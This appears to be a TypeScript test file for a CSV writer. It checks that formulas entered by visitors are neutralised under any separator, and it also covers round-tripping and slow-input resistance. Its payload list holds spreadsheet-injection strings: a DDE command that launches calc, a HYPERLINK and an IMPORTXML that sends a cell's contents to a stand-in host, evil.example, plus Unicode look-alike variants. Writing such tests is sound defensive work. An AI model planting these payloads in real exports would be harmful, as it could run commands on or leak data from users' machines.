import assert from 'node:assert/strict';
import { assertGrowth } from '../test/harness/assert-growth.js';
import { readCsv } from '../tooling/eval/read-csv.js';
import { writeCsv } from './write-csv.js';

const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","here")'],
  ...['=IMPORTXML("https://evil.example/?"&A1,"//a")', "|=cmd|'/C calc'!A0", '＝1+1', '＋1+1', '－1+1'],
  ...['＠SUM(1,1)', '−1+1', '﹦1+1', '﹢1+1', '﹣1+1', '﹫SUM(1,1)'],
];
/** What a reader of files may pass over before a formula. */
const leads = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\0', '\u0085', '"', "'", ' "'];
/** What it may take for the end of a cell or of a line. */
const ends = [';', ',', '|', '; ', ';"', ',"', ';\t"', '";', '","', `';'`, '\n', '\r\n', '\u2028', '\t'];
const payloads = formulas.flatMap((formula) => [
  ...leads.map((lead) => `${lead}${formula}`),
  ...ends.map((end) => `a friend${end}${formula}`),
]);

/** The cells for a reader with any separator: quotes count at the start of a cell alone. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let [cell, isQuoted] = ['', false];
  for (let at = 0; at < line.length; at += 1) {
    const sign = line[at] ?? '';
    if (isQuoted && line.startsWith('""', at)) {
      cell += sign;
      at += 1;
    } else if (sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (sign === separator && !isQuoted) [cell] = ['', cells.push(cell)];
    else cell += sign;
  }
  return [...cells, cell];
}

const isFormula = (cell: string): boolean =>
  /^[\s\p{C}\p{Z}"]*[=+\-@\u2212\ufe62\ufe63\ufe66\ufe6b\uff1d\uff0b\uff0d\uff20]/u.test(cell);

describe('a CSV file', () => {
  it(`F-093: holds no formula out of ${payloads.length} that visitors may write, whatever the reader takes for a separator`, () => {
    for (const payload of payloads) {
      const text = writeCsv(
        ['name', 'note'],
        [
          [payload, 'more'],
          ['first', payload],
        ],
      );
      const lines = text
        .slice(1)
        .trimEnd()
        .split(/\r\n|[\r\n\u0085\u2028]/);
      assert.equal(lines.length, 3, JSON.stringify(payload));
      const cells = lines.flatMap((line) => [',', ';', '|', '\t'].flatMap((end) => cellsOf(line, end)));
      assert.deepEqual(cells.filter(isFormula), [], JSON.stringify(payload));
    }
  });

  it('keeps what is no formula as it was written, and every cell in its column', () => {
    const plain = [
      'Anna-Lise',
      'ida@example.no',
      '3 = 4; a "friend", too',
      'grüß dich, 天気',
      "it's 50 %",
      '',
    ];
    assert.deepEqual(readCsv(writeCsv(plain, [plain]).slice(1)), [plain, plain]);
    const given = [new Date(0), null, undefined, 7, { a: 1 }];
    const told = ['1970-01-01T00:00:00.000Z', '', '', '7', '{"a":1}'];
    assert.deepEqual(readCsv(writeCsv(told, [given]).slice(1))[1], told);
  });

  it('is not slowed down by a text made to be slow', () => {
    for (const part of [',', ' ', '"', ', ', '; "', '\0'])
      assertGrowth({ short: part.repeat(2e4), long: part.repeat(1e5), most: 12 }, (text) =>
        writeCsv(['note'], [[text]]),
      );
  });
});
